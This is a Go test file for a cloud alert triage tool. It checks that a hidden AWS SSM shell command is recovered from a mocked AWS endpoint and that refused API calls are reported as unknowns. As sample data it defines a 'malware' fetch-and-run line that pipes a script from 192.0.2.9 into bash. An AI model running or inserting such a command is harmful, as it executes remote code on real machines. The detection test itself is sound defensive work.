package desk_test

import (
	"encoding/json"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/debutsec/debut/internal/store"
	"github.com/debutsec/debut/internal/triage"
	"github.com/debutsec/debut/internal/triage/desk"
	"github.com/debutsec/debut/internal/triage/live"
	"github.com/debutsec/debut/internal/triage/live/livetest"
)

const (
	hidden  = `{"documentName":"AWS-RunShellScript","instanceIds":["i-0a1b2c3d4e5f60718"],"parameters":"HIDDEN_DUE_TO_SECURITY_REASONS"}`
	sent    = `{"command":{"commandId":"0f1e2d3c-0000-4000-8000-000000000001"}}`
	sentID  = "0f1e2d3c-0000-4000-8000-000000000001"
	malware = `curl -s http://192.0.2.9/x.sh | bash`
)

// liveOffice has one alert about a command whose text CloudTrail hides, and asks an
// endpoint that answers so.
func liveOffice(t *testing.T, answers map[string]string, change func(*desk.Options)) (*office, *livetest.Endpoint) {
	t.Helper()
	t.Setenv("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "secret")
	t.Setenv("AWS_EC2_METADATA_DISABLED", "true")
	aws := livetest.New(answers)
	s := httptest.NewServer(aws)
	t.Cleanup(s.Close)
	o := newOffice(t)
	o.desk = o.open(func(opt *desk.Options) {
		opt.Live.Endpoint = s.URL
		change(opt)
	})
	o.alert("aaaa", base, o.answered(base, "ssm", "SendCommand", hidden, sent), func(*store.Alert) {})
	return o, aws
}

func (o *office) investigate(r desk.Request) *desk.Result {
	o.Helper()
	r.Trigger, r.By = store.TriageByHand, "kim"
	res, err := o.desk.Investigate(o.Context(), "aaaa", r)
	if err != nil {
		o.Fatal(err)
	}
	return res
}

func answerOf(t *testing.T, r *triage.Report, step string) *triage.Answer {
	t.Helper()
	i := slices.IndexFunc(r.Steps, func(a triage.Answer) bool { return a.ID == step })
	if i < 0 {
		t.Fatalf("the report has no %s", step)
	}
	return &r.Steps[i]
}

// A command whose text CloudTrail hides becomes visible and changes the report; a call
// that AWS refuses is an unknown with the statement that would allow it.
func TestLive(t *testing.T) {
	text, err := json.Marshal(malware)
	if err != nil {
		t.Fatal(err)
	}
	o, aws := liveOffice(t, map[string]string{
		"ListCommands":                `{"Commands":[{"CommandId":"` + sentID + `","DocumentName":"AWS-RunShellScript","Parameters":{"commands":[` + string(text) + `]},"Status":"Success"}]}`,
		"ListCommandInvocations":      `{"CommandInvocations":[{"CommandId":"` + sentID + `","InstanceId":"i-0a1b2c3d4e5f60718","Status":"Success"}]}`,
		"GetCommandInvocation":        `{"ResponseCode":0,"StandardOutputContent":"installed"}`,
		"DescribeDocument":            `{"Document":{"Name":"AWS-RunShellScript","Owner":"Amazon","Status":"Active","DefaultVersion":"1","LatestVersion":"1"}}`,
		"DescribeInstanceInformation": `{"InstanceInformationList":[{"InstanceId":"i-0a1b2c3d4e5f60718","PingStatus":"Online","IPAddress":"10.0.0.1"}]}`,
	}, func(*desk.Options) {})

	without := o.investigate(desk.Request{})
	if len(aws.Calls()) > 0 || len(without.Report.Live) > 0 {
		t.Fatalf("nobody wanted AWS to be asked: %v", aws.Calls())
	}
	if a := answerOf(t, without.Report, "T5"); a.Status != triage.NotKnown || !strings.Contains(a.Unknowns[0].Remedy, "--live") {
		t.Errorf("T5 without AWS: %+v", a)
	}

	with := o.investigate(desk.Request{Live: true})
	if !with.Kept || with.Report.Version != without.Report.Version+1 || with.Report.Score <= without.Report.Score || with.Report.Confidence <= without.Report.Confidence {
		t.Errorf("version %d, score %d, confidence %.2f; without AWS %d, %d, %.2f", with.Report.Version, with.Report.Score, with.Report.Confidence,
			without.Report.Version, without.Report.Score, without.Report.Confidence)
	}
	a := answerOf(t, with.Report, "T5")
	if a.Status != triage.Answered || !slices.ContainsFunc(a.Findings, func(f triage.Finding) bool { return strings.Contains(f.Text, "192.0.2.9") }) ||
		!strings.Contains(a.Answer, "known from AWS") || !strings.Contains(a.Answer, "it wrote: installed") {
		t.Errorf("T5: %+v", a)
	}
	if a := answerOf(t, with.Report, "T15"); !strings.Contains(a.Answer, "succeeded on 1 of 1 targets") {
		t.Errorf("T15: %s", a.Answer)
	}
	// What was asked is what the event names, and stamped.
	for _, call := range []string{"ListCommands", "GetCommandInvocation", "DescribeDocument", "DescribeInstances", "DescribeMaintenanceWindows"} {
		if !slices.Contains(aws.Calls(), call) {
			t.Errorf("%s is not asked; asked is %v", call, aws.Calls())
		}
	}
	for _, l := range with.Report.Live {
		if !l.Time.Equal(o.now) || l.Region != "eu-west-1" {
			t.Errorf("stamp %+v", l)
		}
	}
	// What was refused.
	for _, call := range []string{"ec2:DescribeInstances", "ssm:DescribeMaintenanceWindows"} {
		i := slices.IndexFunc(with.Report.Unknowns, func(u triage.Unknown) bool { return strings.Contains(u.What, call) })
		if i < 0 {
			t.Errorf("that %s is refused is no unknown: %+v", call, with.Report.Unknowns)
			continue
		}
		if u := with.Report.Unknowns[i]; !strings.Contains(u.Remedy, string(live.PolicyFor(call))) {
			t.Errorf("%s: the remedy is %q", u.What, u.Remedy)
		}
	}
}

// Where all is refused the report says the same as without AWS, and what would help.
func TestLiveRefused(t *testing.T) {
	o, aws := liveOffice(t, nil, func(opt *desk.Options) { opt.AlwaysLive = true })
	if n := o.work(); n != 1 || len(aws.Calls()) == 0 {
		t.Fatalf("%d investigations, asked is %v", n, aws.Calls())
	}
	r := o.investigate(desk.Request{}).Report
	a := answerOf(t, r, "T5")
	if a.Status != triage.NotKnown || !strings.Contains(a.Answer, "AWS did not tell it") {
		t.Errorf("T5: %+v", a)
	}
	if len(a.Unknowns) == 0 || !strings.Contains(a.Unknowns[0].Remedy, string(live.PolicyFor("ssm:ListCommands"))) {
		t.Errorf("T5: the unknowns are %+v", a.Unknowns)
	}
	for _, u := range r.Unknowns {
		if strings.Contains(u.Remedy, "--live") {
			t.Errorf("to ask again what was refused: %+v", u)
		}
	}
}
